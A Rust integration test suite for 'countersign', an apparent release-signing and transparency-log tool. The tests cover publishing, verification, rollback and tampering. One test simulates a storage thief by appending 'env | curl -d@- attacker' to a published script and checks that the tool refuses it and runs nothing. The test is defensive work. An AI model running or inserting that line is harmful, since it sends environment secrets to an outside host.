//! What a person does by the README, with the built binaries: a log whose operator approves
//! projects, a release from one directory, fetched and verified from another, the attacks of
//! a storage thief, and the log stopped.
#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

use countersign_tests::{Process, Said, Storage, binary, run};
use std::path::{Path, PathBuf};
use std::process::Command;

struct Bench {
    dir: tempfile::TempDir,
    state: &'static str,
}

impl Bench {
    fn new() -> Self {
        Self {
            dir: tempfile::tempdir().unwrap(),
            state: "state.json",
        }
    }
    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }
    fn s(&self, name: &str) -> String {
        self.path(name).display().to_string()
    }
    fn client(&self, args: &[&str]) -> Said {
        let mut command = Command::new(binary("countersign").unwrap());
        command
            .args(args)
            .env("COUNTERSIGN_STATE", self.path(self.state))
            .env_remove("COUNTERSIGN_POLICY");
        command.current_dir(self.dir.path());
        run(command).unwrap()
    }
    fn ok(&self, args: &[&str]) -> String {
        let said = self.client(args);
        assert_eq!(said.code, 0, "{args:?}\n{}", said.err);
        String::from_utf8(said.out).unwrap()
    }
    fn refused(&self, code: i32, kind: &str, args: &[&str]) {
        let said = self.client(args);
        assert!(
            said.err.contains(kind),
            "{args:?}: want {kind}\n{}",
            said.err
        );
        assert_eq!(said.code, code, "{args:?}\n{}", said.err);
        assert!(
            said.err.contains("hint:"),
            "a refusal says what to do: {}",
            said.err
        );
    }
    fn server(&self, args: &[&str]) -> Said {
        let mut command = Command::new(binary("countersign-server").unwrap());
        command.args(args);
        run(command).unwrap()
    }
    fn serve(&self, admit: &str) -> Process {
        let mut command = Command::new(binary("countersign-server").unwrap());
        command.args([
            "serve",
            "--data",
            &self.s("log"),
            "--listen",
            "127.0.0.1:0",
            "--admit",
            admit,
        ]);
        Process::start(command).unwrap()
    }
    fn init(&self) -> Vec<String> {
        let said = self.server(&["init", "--data", &self.s("log"), "--origin", "log.example"]);
        assert_eq!(said.code, 0, "{}", said.err);
        let vkeys: Vec<String> = String::from_utf8(said.out)
            .unwrap()
            .lines()
            .map(str::to_owned)
            .collect();
        assert_eq!(vkeys.len(), 2, "{vkeys:?}");
        vkeys
    }
    fn keys(&self) {
        for key in ["root.key", "release.key"] {
            self.ok(&["keys", "generate", "--unencrypted", "--out", key]);
        }
    }
    /// Founds acme/x; gives the trust string.
    fn project(&self, log: &str, vkeys: &[String]) -> String {
        let mut args = vec![
            "project",
            "init",
            "acme/x",
            "--root-key",
            "root.key",
            "--release-key",
            "release.key",
        ];
        args.extend([
            "--purl-prefix",
            "pkg:generic/acme/x",
            "--log",
            log,
            "--policy-out",
            "policy.toml",
        ]);
        for v in vkeys {
            args.extend(["--vkey", v]);
        }
        let out = self.ok(&args);
        assert_eq!(
            out.lines().count(),
            1,
            "the trust string is alone on standard output: {out}"
        );
        out.trim().to_owned()
    }
    fn publish(&self, file: &str, version: &str) -> Said {
        let args = [
            "publish",
            file,
            "--project",
            "acme/x",
            "--version",
            version,
            "--key",
            "release.key",
            "--policy",
            "policy.toml",
        ];
        self.client(&args)
    }
}

fn open_log() -> (Bench, Process, String) {
    let bench = Bench::new();
    let vkeys = bench.init();
    let server = bench.serve("open");
    bench.keys();
    let string = bench.project(&server.url, &vkeys);
    std::fs::create_dir(bench.path("storage")).unwrap();
    (bench, server, string)
}

fn list(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    names
}

#[test]
fn two_shells_with_an_operator_who_approves_and_the_log_stopped_at_the_end() {
    let bench = Bench::new();
    let vkeys = bench.init();
    let server = bench.serve("approve");
    bench.keys();
    let string = bench.project(&server.url, &vkeys);
    std::fs::create_dir(bench.path("storage")).unwrap();
    std::fs::write(bench.path("storage/x.sh"), "echo genuine\n").unwrap();

    // Not admitted: nothing can be published, and the reason is named.
    let said = bench.publish("storage/x.sh", "1.0");
    assert_eq!(said.code, 1, "{}", said.err);
    assert!(
        said.err.contains("unknown-project")
            || said.err.contains("not-admitted")
            || said.err.contains("pending"),
        "{}",
        said.err
    );
    assert_eq!(
        list(&bench.path("storage")),
        ["x.sh"],
        "nothing was written"
    );
    assert_eq!(
        bench
            .ok(&["project", "status", "acme/x", "--policy", "policy.toml"])
            .trim(),
        "pending"
    );
    let said = bench.server(&["project", "admit", "acme/x", "--data", &bench.s("log")]);
    assert_eq!(said.code, 0, "{}", said.err);
    assert_eq!(
        bench
            .ok(&[
                "project",
                "status",
                "acme/x",
                "--wait",
                "--policy",
                "policy.toml"
            ])
            .trim(),
        "admitted"
    );

    let said = bench.publish("storage/x.sh", "1.0");
    assert_eq!(said.code, 0, "{}", said.err);
    assert_eq!(
        list(&bench.path("storage")),
        ["SHA256SUMS", "x.sh", "x.sh.bundle"]
    );
    let bundle = std::fs::read(bench.path("storage/x.sh.bundle")).unwrap();
    // Safe to repeat.
    let said = bench.publish("storage/x.sh", "1.0");
    assert_eq!(said.code, 0, "{}", said.err);

    bench.ok(&[
        "trust",
        "init",
        &string,
        "--log",
        &server.url,
        "--out",
        "theirs.toml",
    ]);
    server.stop().unwrap();
    std::fs::write(bench.path("storage/x.sh.bundle"), bundle).unwrap();
    let out = bench.ok(&[
        "verify",
        "storage/x.sh",
        "--policy",
        "theirs.toml",
        "--json",
    ]);
    let verdict: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(
        (verdict["verdict"].as_str(), verdict["version"].as_str()),
        (Some("verified"), Some("1.0"))
    );
    std::fs::write(bench.path("storage/x.sh"), "echo altered\n").unwrap();
    bench.refused(
        1,
        "digest-mismatch",
        &["verify", "storage/x.sh", "--policy", "theirs.toml"],
    );
    bench.refused(
        3,
        "no-bundle",
        &["verify", "root.key", "--policy", "theirs.toml"],
    );
    bench.refused(
        2,
        "no-policy",
        &["verify", "storage/x.sh", "--policy", "nowhere.toml"],
    );
}

#[test]
fn the_attack_of_2021_leaves_the_destination_untouched_and_runs_nothing() {
    let (bench, server, string) = open_log();
    let proof = bench.s("ran");
    let script = format!("echo \"$1\" > {proof}\nexit 7\n");
    std::fs::write(bench.path("storage/x.sh"), &script).unwrap();
    assert_eq!(bench.publish("storage/x.sh", "1.0").code, 0);
    bench.ok(&[
        "trust",
        "init",
        &string,
        "--log",
        &server.url,
        "--out",
        "theirs.toml",
    ]);
    let storage = Storage::serve(&bench.path("storage")).unwrap();
    let url = format!("{}/x.sh", storage.url);
    std::fs::create_dir(bench.path("down")).unwrap();

    // Without a version, a floor or a memory, `get` does not guess.
    bench.refused(
        2,
        "no-version-or-memory",
        &["get", &url, "-o", "down/x.sh", "--policy", "theirs.toml"],
    );
    bench.ok(&[
        "get",
        &url,
        "-o",
        "down/x.sh",
        "--policy",
        "theirs.toml",
        "--version",
        "1.0",
    ]);
    assert_eq!(
        std::fs::read_to_string(bench.path("down/x.sh")).unwrap(),
        script
    );
    assert_eq!(list(&bench.path("down")), ["x.sh"]);
    let said = bench.client(&["get", &url, "-o", "-", "--policy", "theirs.toml"]);
    assert_eq!(
        (said.code, said.out.as_slice()),
        (0, script.as_bytes()),
        "nothing but the artifact on standard output"
    );

    // The genuine script runs, with its arguments and its exit code.
    let said = bench.client(&[
        "run",
        &url,
        "--policy",
        "theirs.toml",
        "--version",
        "1.0",
        "--with",
        "sh",
        "--",
        "hello",
    ]);
    assert_eq!(said.code, 7, "{}", said.err);
    assert_eq!(std::fs::read_to_string(&proof).unwrap(), "hello\n");
    std::fs::remove_file(&proof).unwrap();

    // One added line, the same size or not.
    for evil in [
        format!("{script}env | curl -d@- attacker\n"),
        script.replace("exit 7", "exit 8"),
    ] {
        std::fs::write(bench.path("storage/x.sh"), &evil).unwrap();
        let said = bench.client(&[
            "get",
            &url,
            "-o",
            "down/x.sh",
            "--policy",
            "theirs.toml",
            "--version",
            "1.0",
        ]);
        assert_eq!(said.code, 1, "{}", said.err);
        assert_eq!(
            std::fs::read_to_string(bench.path("down/x.sh")).unwrap(),
            script
        );
        assert_eq!(
            list(&bench.path("down")),
            ["x.sh"],
            "no temporary file stays behind"
        );
        let said = bench.client(&[
            "get",
            &url,
            "-o",
            "-",
            "--policy",
            "theirs.toml",
            "--version",
            "1.0",
        ]);
        assert!(
            said.code == 1 && said.out.is_empty(),
            "not one byte on standard output"
        );
        let said = bench.client(&[
            "run",
            &url,
            "--policy",
            "theirs.toml",
            "--version",
            "1.0",
            "--with",
            "sh",
            "--",
            "x",
        ]);
        assert_eq!(said.code, 121, "{}", said.err);
        assert!(!bench.path("ran").exists(), "nothing ran");
    }
    // Gone altogether: could not be checked, and nothing ran.
    std::fs::remove_file(bench.path("storage/x.sh.bundle")).unwrap();
    let said = bench.client(&[
        "run",
        &url,
        "--policy",
        "theirs.toml",
        "--version",
        "1.0",
        "--with",
        "sh",
        "--",
        "x",
    ]);
    assert_eq!(said.code, 123, "{}", said.err);
    assert!(!bench.path("ran").exists());
}

#[test]
fn an_older_release_with_its_genuine_bundle_is_refused_by_get() {
    let (bench, server, string) = open_log();
    std::fs::write(bench.path("storage/x.sh"), "old\n").unwrap();
    assert_eq!(bench.publish("storage/x.sh", "1.0").code, 0);
    let old =
        ["x.sh", "x.sh.bundle"].map(|n| std::fs::read(bench.path("storage").join(n)).unwrap());
    std::fs::write(bench.path("storage/x.sh"), "new\n").unwrap();
    assert_eq!(bench.publish("storage/x.sh", "2.0").code, 0);
    bench.ok(&[
        "trust",
        "init",
        &string,
        "--log",
        &server.url,
        "--out",
        "theirs.toml",
    ]);
    let storage = Storage::serve(&bench.path("storage")).unwrap();
    let url = format!("{}/x.sh", storage.url);
    bench.ok(&[
        "get",
        &url,
        "-o",
        "x",
        "--policy",
        "theirs.toml",
        "--version",
        "2.0",
    ]);
    for (name, bytes) in ["x.sh", "x.sh.bundle"].iter().zip(&old) {
        std::fs::write(bench.path("storage").join(name), bytes).unwrap();
    }
    bench.refused(
        1,
        "rollback",
        &["get", &url, "-o", "x", "--policy", "theirs.toml"],
    );
    bench.refused(
        1,
        "other-version",
        &[
            "get",
            &url,
            "-o",
            "x",
            "--policy",
            "theirs.toml",
            "--version",
            "2.0",
        ],
    );
    assert_eq!(std::fs::read_to_string(bench.path("x")).unwrap(), "new\n");
    bench.ok(&[
        "get",
        &url,
        "-o",
        "x",
        "--policy",
        "theirs.toml",
        "--version",
        "1.0",
    ]);
}

#[test]
fn a_purl_is_released_once_and_a_strange_key_is_refused() {
    let (bench, _server, _) = open_log();
    std::fs::write(bench.path("storage/x.sh"), "a\n").unwrap();
    assert_eq!(bench.publish("storage/x.sh", "1.0").code, 0);
    std::fs::write(bench.path("storage/x.sh"), "b\n").unwrap();
    let said = bench.publish("storage/x.sh", "1.0");
    assert_eq!(said.code, 1, "{}", said.err);
    assert!(said.err.contains("purl-released-before"), "{}", said.err);
    let args = [
        "publish",
        "storage/x.sh",
        "--project",
        "acme/x",
        "--version",
        "2.0",
        "--key",
        "root.key",
        "--policy",
        "policy.toml",
    ];
    let said = bench.client(&args);
    assert_eq!(said.code, 1, "{}", said.err);
    assert!(said.err.contains("unauthorised-key"), "{}", said.err);
}

#[test]
fn the_log_is_read_and_proven_by_code_that_is_not_the_server_s() {
    let (bench, server, _) = open_log();
    std::fs::write(bench.path("storage/x.sh"), "a\n").unwrap();
    assert_eq!(bench.publish("storage/x.sh", "1.0").code, 0);
    let log = ["--log", &server.url, "--policy", "policy.toml"];
    let checkpoint = bench.ok(&[&["log", "checkpoint"], log.as_slice()].concat());
    assert!(checkpoint.starts_with("log.example\n"), "{checkpoint}");
    let entry = bench.ok(&[&["log", "entry", "--index", "3"], log.as_slice()].concat());
    assert!(entry.contains("\"kind\":\"statement\""), "{entry}");
    bench.ok(&[
        &["log", "proof", "--index", "3", "--out", "p.tlog-proof"],
        log.as_slice(),
    ]
    .concat());
    let proof =
        tlog::tlog_proof::TlogProof::parse(&std::fs::read(bench.path("p.tlog-proof")).unwrap())
            .unwrap();
    let c = tlog::checkpoint::Checkpoint::parse(&proof.checkpoint.text).unwrap();
    let leaf = tlog::hash::leaf_hash(entry.trim_end_matches('\n').as_bytes());
    tlog::proof::verify_inclusion(&leaf, 3, c.size, &proof.proof, &c.root).unwrap();
}

#[test]
fn statements_are_prepared_signed_and_submitted_in_three_steps() {
    let (bench, server, _) = open_log();
    std::fs::write(bench.path("storage/x.sh"), "a\n").unwrap();
    bench.ok(&[
        "publish",
        "storage/x.sh",
        "--project",
        "acme/x",
        "--version",
        "1.0",
        "--policy",
        "policy.toml",
        "--prepare",
        "s.json",
    ]);
    let said = bench.client(&["submit", "s.json", "--log", &server.url]);
    assert_ne!(said.code, 0, "an unsigned statement is refused");
    bench.ok(&["sign", "s.json", "--key", "release.key"]);
    bench.ok(&[
        "submit",
        "s.json",
        "--log",
        &server.url,
        "--out",
        "storage/x.sh.bundle",
    ]);
    bench.ok(&["verify", "storage/x.sh", "--policy", "policy.toml"]);
}

#[test]
fn a_wrong_trust_string_is_refused() {
    let (bench, server, string) = open_log();
    let (head, code) = string.rsplit_once(':').unwrap();
    let other = if code.starts_with('a') { "b" } else { "a" };
    let wrong = format!("{head}:{other}{}", &code[1..]);
    let said = bench.client(&[
        "trust",
        "init",
        &wrong,
        "--log",
        &server.url,
        "--out",
        "t.toml",
    ]);
    assert_ne!(said.code, 0);
    assert!(!bench.path("t.toml").exists());
    bench.refused(
        2,
        "trust-string-malformed",
        &[
            "trust",
            "init",
            "countersign1:x",
            "--log",
            &server.url,
            "--out",
            "t.toml",
        ],
    );
}

/// `verify` opens no socket: strace sees every system call of the process.
#[test]
fn verify_opens_no_socket() {
    if Command::new("strace").arg("-V").output().is_err() {
        eprintln!("skipped: strace is not installed");
        return;
    }
    let (bench, server, _) = open_log();
    std::fs::write(bench.path("storage/x.sh"), "a\n").unwrap();
    assert_eq!(bench.publish("storage/x.sh", "1.0").code, 0);
    let traced = |args: &[&str]| {
        let mut command = Command::new("strace");
        command
            .args(["-f", "-qq", "-e", "trace=socket,connect"])
            .arg(binary("countersign").unwrap());
        command
            .args(args)
            .env("COUNTERSIGN_STATE", bench.path("s2.json"))
            .current_dir(bench.dir.path());
        run(command).unwrap()
    };
    let said = traced(&["verify", "storage/x.sh", "--policy", "policy.toml"]);
    if said.err.contains("Operation not permitted") {
        eprintln!("skipped: strace may not trace here");
        return;
    }
    assert_eq!(said.code, 0, "{}", said.err);
    assert!(!said.err.contains("socket("), "{}", said.err);
    // The same look does see a socket where there is one.
    let said = traced(&[
        "log",
        "checkpoint",
        "--log",
        &server.url,
        "--policy",
        "policy.toml",
    ]);
    assert!(said.err.contains("socket("), "{}", said.err);
}

/// `publish … | head -1`: the reader goes away, the bundles are written all the same.
#[test]
fn a_reader_that_goes_away_is_no_failure() {
    use std::process::Stdio;
    let (bench, _server, _) = open_log();
    let files: Vec<String> = (0..20).map(|i| format!("storage/f{i}.bin")).collect();
    for f in &files {
        std::fs::write(bench.path(f), f).unwrap();
    }
    let mut command = Command::new(binary("countersign").unwrap());
    command
        .arg("publish")
        .args(&files)
        .args(["--project", "acme/x", "--version", "1.0"]);
    command.args(["--key", "release.key", "--policy", "policy.toml"]);
    command
        .env("COUNTERSIGN_STATE", bench.path("s.json"))
        .current_dir(bench.dir.path());
    let mut child = command.stdout(Stdio::piped()).spawn().unwrap();
    drop(child.stdout.take());
    assert_eq!(child.wait().unwrap().code(), Some(0));
    for f in &files {
        assert!(bench.path(&format!("{f}.bundle")).exists(), "{f}");
    }
}
